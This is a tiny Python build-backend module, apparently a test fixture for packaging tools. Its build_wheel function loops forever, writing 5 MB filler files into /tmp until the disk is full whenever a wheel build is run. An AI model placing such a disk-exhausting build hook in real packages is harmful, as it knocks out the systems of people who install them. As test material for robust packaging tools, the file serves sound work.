from pathlib import Path

from minimal_wheel import prepare_metadata_for_build_wheel


def build_wheel(folder, config_settings=None, metadata_directory=None):
    number = 0
    while True:
        Path(f'/tmp/filler-{number}').write_bytes(bytes(5_000_000))
        number += 1
